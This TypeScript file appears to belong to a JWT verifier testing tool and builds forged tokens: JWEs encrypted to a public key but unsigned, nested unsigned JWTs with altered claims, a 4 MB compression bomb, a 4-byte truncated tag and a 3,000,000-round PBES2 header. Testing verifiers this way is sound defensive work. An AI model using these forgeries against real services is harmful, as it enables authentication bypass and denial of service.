import { base64url } from '../encoding/base64url.ts'
import { concat, utf8 } from '../encoding/bytes.ts'
import { encryptJwt, type EncryptOptions } from '../jose/encrypt.ts'
import { signingInput } from '../jose/sign.ts'
import type { Attack, Forgery, Material } from './attack.ts'
import { needsPublicKeys } from './forge.ts'

/** Bytes to which the compression bomb unfolds: far above the 250 KB of RFC 8725bis §3.15, and it still fits a request header. */
const unfolded = 4 * 1024 * 1024

export const encryptedNotSigned: Attack = {
  ruleId: 'JWT-34',
  name: 'encrypted-not-signed',
  forge: (material) => {
    const claims = JSON.stringify({ ...material.claims, sub: 'forged-by-jwt-check' })
    return encrypted(material, [
      { label: 'claims encrypted to the public key, signed by nobody', text: claims },
      {
        label: 'the same with the typ of the valid JWT',
        text: claims,
        options: { header: { typ: material.valid.header['typ'] ?? 'JWT' } },
      },
    ])
  },
}

export const nestedUnsigned: Attack = {
  ruleId: 'JWT-33',
  name: 'nested-unsigned',
  forge: (material) => {
    const { header, signature } = material.valid
    const inner = signingInput({ ...header, alg: 'none' }, material.claims)
    const forged = signingInput(header, { ...material.claims, sub: 'forged-by-jwt-check' })
    const options = { header: { cty: 'JWT' } }
    return encrypted(material, [
      { label: 'a JWE around an unsigned JWT', text: `${inner}.`, options },
      { label: 'a JWE around a JWT with altered claims', text: `${forged}.${base64url(signature)}`, options },
    ])
  },
}

export const compressionBomb: Attack = {
  ruleId: 'JWT-36',
  name: 'compression-bomb',
  forge: (material) => {
    const text = JSON.stringify({ ...material.claims, pad: ' '.repeat(unfolded) })
    return encrypted(material, [
      { label: `a JWE that unfolds to ${unfolded / 1024 / 1024} MB`, text, options: { zip: true }, slowFrom: 1000 },
    ])
  },
}

export const shortTag: Attack = {
  ruleId: 'JWT-54',
  name: 'short-tag',
  forge: (material) =>
    encrypted(material, [{ label: 'a JWE whose tag is cut to 4 bytes', text: JSON.stringify(material.claims), options: { tagBytes: 4 } }]),
}

export const hugeIterationCount: Attack = {
  ruleId: 'JWT-35',
  name: 'huge-iteration-count',
  forge: async () => {
    const jwe = (p2c: number): string => {
      const header = { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2s: base64url(new Uint8Array(16).fill(1)), p2c }
      const noise = (length: number): string => base64url(crypto.getRandomValues(new Uint8Array(length)))
      return [base64url(utf8(JSON.stringify(header))), noise(24), noise(12), noise(64), noise(16)].join('.')
    }
    // Three million rounds take every processor a good part of a second, and no verifier more than a few: enough to see whether it counts.
    return [{ label: 'a PBES2 JWE of 3 000 000 rounds', jwe: jwe(3_000_000), slowFrom: 250 }].map(({ label, jwe, slowFrom }): Forgery => ({
      label,
      jwt: jwe,
      flaw: 'form',
      slowFrom,
    }))
  },
}

type Plan = { readonly label: string; readonly text: string; readonly options?: EncryptOptions; readonly slowFrom?: number }

async function encrypted(material: Material, plans: readonly Plan[]): ReturnType<Attack['forge']> {
  const recipients = [...material.publicKeys, ...material.signingKeys.filter((jwk) => jwk['kty'] === 'oct')].slice(0, 3)
  if (recipients.length === 0) return needsPublicKeys
  const forgeries = await Promise.all(
    recipients.flatMap((recipient) =>
      plans.map(async ({ label, text, options = {}, slowFrom }): Promise<readonly Forgery[]> => {
        const kid = recipient['kid'] === undefined ? {} : { kid: recipient['kid'] }
        const jwt = await encryptJwt(concat(utf8(text)), recipient, { ...options, header: { ...kid, ...options.header } })
        return jwt === undefined ? [] : [{ label, jwt, flaw: 'signature', ...(slowFrom === undefined ? {} : { slowFrom }) }]
      }),
    ),
  )
  return forgeries.flat().length === 0 ? { skipped: 'no known key can be encrypted to' } : forgeries.flat()
}
